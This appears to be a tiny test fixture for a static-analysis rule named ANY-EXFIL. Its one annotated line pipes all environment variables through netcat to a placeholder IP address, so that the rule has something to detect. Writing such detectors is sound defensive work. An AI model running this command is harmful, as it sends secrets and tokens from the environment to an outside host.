# ruleid: ANY-EXFIL
env | nc 1.2.3.4 9
